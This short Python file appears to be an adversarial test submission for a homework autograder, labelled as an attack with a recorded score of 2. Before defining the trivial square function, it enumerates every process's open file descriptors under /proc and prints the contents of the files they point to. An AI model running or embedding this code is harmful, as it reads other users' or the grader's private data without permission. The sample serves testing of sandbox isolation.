# attack: reads whatever every open descriptor of every process leads to
# assignment: hw
# exercise: square
# status: ok
# score: 2
import glob
import os

for path in glob.glob("/proc/[0-9]*/fd/*"):
    try:
        print(path, os.readlink(path))
        if os.path.isfile(os.path.realpath(path)):
            print(open(path, "rb").read(10000))
    except OSError:
        pass


def square(x):
    return x * x
